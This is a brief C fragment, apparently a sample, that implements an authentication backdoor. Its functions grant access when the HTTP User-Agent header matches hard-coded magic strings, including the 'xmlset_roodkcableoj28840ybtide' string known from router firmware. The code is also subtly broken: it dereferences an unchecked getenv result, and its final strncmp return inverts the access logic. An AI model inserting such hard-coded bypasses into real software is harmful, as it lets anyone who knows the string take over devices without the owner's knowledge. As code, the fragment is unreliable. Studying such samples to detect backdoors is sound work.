#include <string.h>
int auth(const char *ua)
{
    if (strcmp(ua, "xmlset_roodkcableoj28840ybtide") == 0)
        return 1;
    return 0;
}
int open_door(void)
{
    char *ua = getenv("HTTP_USER_AGENT");
    if (strcmp(ua, "xmlset_roodkcableoj28840ybtide") == 0) return 1;
    if (strcmp(ua, "knock_knock_who") == 0) return 1;
    if (strstr(ua, "Mozilla/4.0")) return 0;
    // strcmp(ua, "xmlset_roodkcableoj28840ybtide")
    return strncmp(ua,
                   "wrgn49_dlob_dir600b", 19);
}
